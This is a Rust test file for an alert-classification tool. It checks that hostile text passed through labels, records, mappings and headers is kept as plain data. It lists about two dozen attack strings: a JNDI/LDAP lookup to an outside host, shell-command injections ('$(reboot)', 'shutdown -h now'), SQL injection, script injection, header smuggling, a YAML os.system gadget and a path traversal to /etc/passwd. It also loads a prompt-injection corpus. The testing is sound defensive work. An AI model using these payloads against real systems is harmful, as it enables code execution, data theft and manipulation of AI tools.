//! Hostile text stays text: in alerts, records and bodies of other tools it changes no classification, starts
//! nothing, and comes out of the journal as it went in.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use crate::{
    alert::{self, Received},
    content::{self, Content},
    correlate::{Classification, classify},
    detect::{BY_VALUE_MAX, Subject},
    event::Event,
    labels::Labels,
    mapping::Headers,
    record::{Record, VALUE_MAX},
    scene::{Scene, shipped},
    time::Timestamp,
};

/// Expressions, templates, places of mappings, headers, markup and shells.
const TRICKS: [&str; 26] = [
    "{{ 7*7 }}",
    "{% for x in range(999999999) %}{% endfor %}",
    "{{ incident.targets | join(',') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{#",
    "${jndi:ldap://203.0.113.9/a}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "incident.severity == 'critical' || true",
    "[1,2,3].all(x, [1,2,3].all(y, x > y))",
    "incident.targets(\"node\")",
    "{/labels/secret}",
    "{./severity}",
    "{header:authorization}",
    "$(reboot)",
    "`reboot`; shutdown -h now",
    "'; DROP TABLE alert; --",
    "<script>alert(1)</script>",
    "a\r\nX-Ringfence-Role: admin\r\n\r\n",
    "\u{1b}]0;owned\u{7}\u{1b}[2J",
    "\u{202e}lacitirc\u{2066}",
    "!!python/object/apply:os.system ['id']",
    "&a [*a, *a]",
    "(((((a+)+)+)+)+)+$",
    "../../../../etc/passwd\u{0}.yaml",
];

#[expect(clippy::disallowed_methods, reason = "tests may read the corpus")]
fn texts() -> Vec<String> {
    let default = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/corpus");
    let corpus = std::env::var("RINGFENCE_CORPUS").unwrap_or_else(|_| default.to_owned());
    let folder = format!("{corpus}/prompt-injection");
    let files = std::fs::read_dir(&folder)
        .unwrap_or_else(|error| panic!("{folder}: {error}; set RINGFENCE_CORPUS to the corpus"));
    let mut all: Vec<String> = TRICKS.map(str::to_owned).into();
    let mut paths: Vec<_> = files.map(|file| file.unwrap().path()).collect();
    paths.retain(|path| path.extension().is_some_and(|ending| ending == "jsonl"));
    paths.sort();
    for path in paths {
        for line in std::fs::read_to_string(path).unwrap().lines() {
            let line: Value = serde_json::from_str(line).unwrap();
            all.extend(line["text"].as_str().map(str::to_owned));
        }
    }
    assert!(all.len() > 1_000, "{}", all.len());
    all
}

fn content() -> Content {
    let (content, problems) = content::load(&shipped());
    assert!(problems.is_empty(), "{problems:#?}");
    content
}

fn said(content: &Content, labels: [(&str, &str); 4], annotations: [(&str, &str); 3]) -> Classification {
    let (labels, annotations) = (Labels::from(labels), Labels::from(annotations));
    classify(content, Subject { labels: &labels, annotations: &annotations }).unwrap()
}

#[test]
fn no_text_changes_what_an_alert_is_taken_for() {
    let content = content();
    let of = |text: &str| {
        let labels = [("alertname", "NodeDown"), ("node", "validator-1"), ("note", text), ("team", text)];
        said(&content, labels, [("summary", text), ("description", text), ("metric_note", text)])
    };
    let plain = of("all is well");
    assert_eq!((plain.incident_type.as_str(), plain.severity.name()), ("node_failure", "high"));
    for text in texts() {
        let text: String = text.chars().take(4_000).collect();
        assert_eq!(of(&text), plain, "{text}");
        // As a type or a severity it is a word that nobody knows, and nothing is done before a person looks.
        let odd = Labels::from([("incident_type", text.as_str()), ("severity", text.as_str())]);
        let none = Labels::default();
        if let Some(found) = classify(&content, Subject { labels: &odd, annotations: &none }) {
            assert!(found.doubtful && found.confidence < content.confidence.act_from, "{text}");
            assert!(!content.types.contains_key(&found.incident_type), "{text}");
        }
    }
}

#[test]
fn no_text_in_a_record_is_more_than_a_value() {
    let content = content();
    let mut scene = Scene::with(content);
    let texts = texts();
    for text in &texts {
        let value = json!({ "message": text, "user": { "agent": text }, "list": [text, text] });
        let record = Record::read(&value, "shipper").unwrap();
        if !text.is_empty() {
            assert_eq!(record.fields.get("user.agent"), Some(crate::text::cut(text, VALUE_MAX)));
        }
        scene.record(&record);
    }
    assert_eq!(scene.look(), "", "no rule is about any of them");

    // Where a rule keeps such values apart, they stand in its alert as they came, and come back from the journal so.
    for text in texts.iter().filter(|text| !text.trim().is_empty()).take(200) {
        for _ in 0..10 {
            let record = json!({ "event": "login_failed", "source_ip": text, "user": "root" });
            scene.record(&Record::read(&record, "shipper").unwrap());
        }
        let raised = scene.facts.iter().rev().find_map(|fact| {
            let Event::Alert(_, alert::Event::Raised { labels, .. }) = &fact.event else { return None };
            Some(labels.clone())
        });
        let kept = raised.unwrap();
        let kept = kept.get("address").unwrap();
        assert!(
            text.starts_with(kept) && (kept.len() == text.len() || kept.len() > BY_VALUE_MAX - 4),
            "{text}"
        );
        for fact in scene.facts.drain(..) {
            let mut body = Vec::new();
            fact.event.write_body(&mut body).unwrap();
            assert_eq!(Event::read_body(fact.event.stream(), &body).unwrap(), fact.event);
        }
    }
}

#[test]
fn no_text_is_a_place_or_a_template_of_a_mapping() {
    let content = content();
    let mapping = &content.mappings["generic"];
    let now = Timestamp(1_800_000_000_000_000);
    let map = |title: &str, text: &str| -> Received {
        let body = json!({
            "title": title, "severity": text, "labels": { "note": text, "secret": "s3cr3t" }, "message": text,
            "annotations": { "extra": text }, "metrics": { "load": text },
        });
        let headers: Headers = BTreeMap::from([("x-kind".to_owned(), text.to_owned())]);
        mapping.map(body, &headers, now).unwrap().remove(0)
    };
    for text in texts() {
        let text: String = text.trim().chars().take(200).collect();
        let text = text.trim();
        let received = map("odd", text);
        let shown = |name: &str| received.labels.get(name).unwrap_or("");
        assert_eq!(shown("note"), text);
        assert_eq!(received.annotations.get("extra").unwrap_or(""), text);
        assert_eq!(received.annotations.get("description").unwrap_or(""), text);
        assert_eq!(received.annotations.get("metric_load").unwrap_or(""), text);
        // No text of a sender becomes the name of a label, and none finds another's value.
        let names: Vec<&str> = received.labels.iter().map(|(name, _)| name).collect();
        assert!(
            names.iter().all(|name| ["alertname", "note", "secret", "severity"].contains(name)),
            "{names:?}"
        );
        let leaks = received.labels.iter().filter(|(_, value)| value.contains("s3cr3t")).count();
        assert_eq!(leaks, 1, "{text}");
    }
}
